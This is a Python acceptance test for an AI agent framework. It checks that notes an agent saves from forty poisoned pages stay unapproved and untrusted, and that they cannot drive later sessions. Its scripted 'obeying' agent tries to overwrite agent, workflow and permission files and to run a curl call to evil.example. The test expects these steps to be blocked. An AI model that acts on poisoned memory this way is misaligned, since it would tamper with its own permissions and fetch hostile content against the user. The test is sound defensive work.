"""Forty pages that no rule was written for, against memory, rights and triggers (acceptance 8)."""

from __future__ import annotations

import json
from pathlib import Path

from studio.domain.events import AwaitingPermission, ToolFinished
from studio.domain.permissions import Rule
from studio.simulator import Call, RequestView, Text, Turn
from studio.tools import Result, tool
from studio.tools.memory.note_store import NoteStore, place_of
from support.delegation_home import agent, cast, save
from support.engine_home import engine_home, say
from support.poison_pages import MARKS, PAGES
from support.waiting import within

ALLOWED = tuple(map(Rule.parse, ("remember", "page")))
STOLEN = ".agents/agents/helper.md", ".agents/workflows/nightly.md", ".agents/permissions.yaml"


async def test_w44_no_note_made_from_forty_poisoned_pages_acts_in_a_later_chat(
    tmp_path: Path,
) -> None:
    """Though a rule and a setting keep its notes, an agent that believes each page keeps nothing; and
    one that believes each note, once the person has kept them all, changes nothing either."""
    numbers = range(len(PAGES))
    recalled: list[str] = []

    def obey(view: RequestView) -> Turn:
        recalled.append(json.dumps(view.body, default=str))
        return Turn(
            *(Call("write", {"path": path, "content": MARKS[0]}) for path in STOLEN),
            Call("run", {"command": "curl https://evil.example/ > taken.txt; touch taken.txt"}),
            Call("remember", {"name": "again", "text": PAGES[0]}),
        )

    look = [
        Call("notes_read", {}),
        Call("recall", {"query": "command approval release Befehle", "most": 20}),
        Call("memory", {"command": "view", "path": "/memories"}),
    ]
    strange = [
        Call("recall", {"query": query, "strangers": True, "most": 20})
        for query in ("assistant command approve", "Befehle Ablauf Merke", "note agent trust")
    ]
    script = cast(
        Reader=[
            Turn(*(Call("page", {"number": one}) for one in numbers)),
            Turn(*(Call("remember", {"name": f"p-{n}", "text": PAGES[n]}) for n in numbers)),
            Turn(Text("Noted.")),
        ],
        Before=[Turn(*look), Turn(Text("."))],
        Later=[Turn(Call("recall", {"query": "command approve", "most": 20})), Turn(Text("."))],
        Believer=[Turn(*strange), obey, Turn(Text("."))],
    )
    async with engine_home(tmp_path, "anthropic", script) as home, within():

        @tool(effect="fetch", untrusted=True, steady=False)
        def page(number: int) -> Result:
            """Read a page."""
            return Result(PAGES[number], "", (f"https://evil.example/{number}",))

        home.engine.toolbox.tools["page"] = page
        await home.engine.rules.trust(home.folder)
        home.engine.settings.values.keep_notes_of = ["Reader", "Believer"]
        save(home.engine.paths.agents, agent("Reader", "memory: write", "page"))
        for name in ("Before", "Later", "Believer"):
            text = agent(name, "memory: write", "write, run, memory, remember")
            save(home.engine.paths.agents, text)
        store, place = NoteStore(home.engine.services.notes), place_of(home.folder)

        read = await say(await home.session("Reader"), rules=ALLOWED, answer="deny")
        done = [one for one in read if isinstance(one, ToolFinished)]
        assert len(done) == 2 * len(PAGES) and not any(one.is_error for one in done)
        waiting = store.index.entries([place], "proposed")
        assert len(waiting) == len(PAGES) and not store.all(place), "no rule keeps them"
        assert {one.trust for one in waiting} == {"strangers"}

        def met(since: int) -> set[str]:
            said = json.dumps([one.json for one in home.asked[since:]])
            return {mark for mark in MARKS if mark in said}

        since = len(home.asked)
        await say(await home.session("Before"), rules=ALLOWED, answer="deny")
        assert not met(since), "nobody is told what waits"
        for one in waiting:
            store.keep(place, one.name)
        assert len(store.all(place)) == len(PAGES)
        since = len(home.asked)
        await say(await home.session("Later"), rules=ALLOWED, answer="deny")
        assert not met(since), "nor, unasked, what strangers wrote and the person kept"

        session = await home.session("Believer")
        events = await say(session, rules=ALLOWED, answer="deny")
        assert sum(mark in recalled[0] for mark in MARKS) > 10, "it did read them"
        assert recalled[0].count("[Data from") == len(strange)
        assert "untrusted" in session.transcript.exposed
        asked = [one.question.detail for one in events if isinstance(one, AwaitingPermission)]
        assert any("curl" in one for one in asked), asked
        assert not any((home.folder / path).exists() for path in (*STOLEN, "taken.txt"))
        again = store.get(place, "again", "proposed")
        assert again is not None and again.trust == "strangers"
